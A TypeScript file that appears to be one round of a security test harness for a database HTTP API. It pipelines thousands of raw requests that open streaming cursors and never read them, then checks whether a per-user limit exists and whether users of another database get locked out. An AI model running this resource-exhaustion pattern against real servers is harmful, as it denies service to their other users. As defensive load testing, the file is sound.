import type { Round } from '../Round.ts';
import { victimPath } from '../Target.ts';

/** More than any regular client needs. */
const fullCount = 10_000;
const perConnection = 50;

const round: Round = {
  id: 'open-cursors',
  attacks: '10,000 cursors that are opened and never read',
  order: 130,
  async run(context) {
    const { authorization = '' } = context.target.headersOf('guest-rw');
    const body = '{"query":"FOR i IN 1..100000 RETURN i","batchSize":1,"ttl":60,"options":{"stream":true}}';
    const request = `POST ${victimPath}/_api/cursor HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: ${authorization}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    const count = context.amount(fullCount, 200);
    const statuses = new Map<number, number>();
    await context.repeat(Math.ceil(count / perConnection), 4, async () => {
      const answers = await context.exchange(request.repeat(perConnection), {
        answers: perConnection,
        patienceMs: 30_000,
      });
      for (const { status } of answers) statuses.set(status, (statuses.get(status) ?? 0) + 1);
    });
    context.note([...statuses].map(([status, times]) => `${times} times ${status}`).join(', '));
    const opened = statuses.get(201) ?? 0;
    if (opened >= fullCount) context.find('no limit', `${opened} cursors of one user are open`);
    // A user of another database is not affected.
    const { status, text } = await context.call(
      {
        method: 'POST',
        path: '/_db/honest/_api/cursor',
        body: { query: 'FOR i IN 1..10 RETURN i', batchSize: 1 },
        localAddress: undefined,
      },
      'honest',
    );
    if (status !== 201) context.find('others are locked out', `${status} ${text}`);
  },
};
export default round;
